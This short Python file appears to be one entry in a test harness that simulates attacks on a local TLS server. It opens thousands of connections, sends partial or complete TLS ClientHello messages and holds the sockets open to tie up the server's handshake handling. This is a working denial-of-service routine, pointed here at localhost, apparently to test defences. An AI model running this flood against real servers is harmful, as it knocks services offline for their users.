"""TLS handshakes that begin and stop: within the first word, or after it."""

import contextlib
import socket
import ssl

from registry import Attack

ATTACK = Attack(
    aims_at="TLS handshakes under way", rules=(110,), accounts=4, tls=True,
    seconds=(0.8, 12.0))
HALF = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def whole():
    """What a client says first."""
    said = ssl.MemoryBIO()
    made = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        made.do_handshake()
    return said.read()


def attack(scene):
    held, words = [], (HALF, whole())
    for number in scene.each_while(0.0002):
        made = socket.create_connection(("127.0.0.1", scene.port), 5, ("127.0.0.2", 0))
        made.send(words[number % 4 > 0])
        held.append(made)
        # The others were sent away. Thousands that are closed at once keep this core busy.
        if len(held) > 4_000:
            held.pop(0).close()
